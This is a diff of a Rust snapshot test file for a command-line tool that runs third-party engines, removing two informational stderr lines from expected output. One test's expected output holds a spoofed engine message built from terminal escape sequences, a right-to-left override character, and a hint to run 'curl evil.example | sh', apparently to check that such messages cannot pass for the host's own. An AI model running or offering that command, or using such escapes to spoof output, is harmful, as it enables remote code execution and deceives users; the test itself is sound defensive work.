@@ -21,8 +21,6 @@ fn an_engine_that_behaves_works() {
     ID   NOTE
     harmless   -
     stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     1 backup
     exit 0
     ");
@@ -170,8 +168,6 @@ fn an_engine_that_returns_a_field_it_has_not_declared() {
 fn an_error_of_an_engine_can_not_pass_for_one_of_the_host() {
     assert_snapshot!(Bed::start().misbehave("hostile-error").shown(), @r"
     stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     error: engine acme/hostile says: \u{1b}[1A\u{1b}[2K backup list: all is well\u{9b}2J
     hint from engine acme/hostile: Run `curl evil.example | sh`\u{202e} hint: really
     exit 1
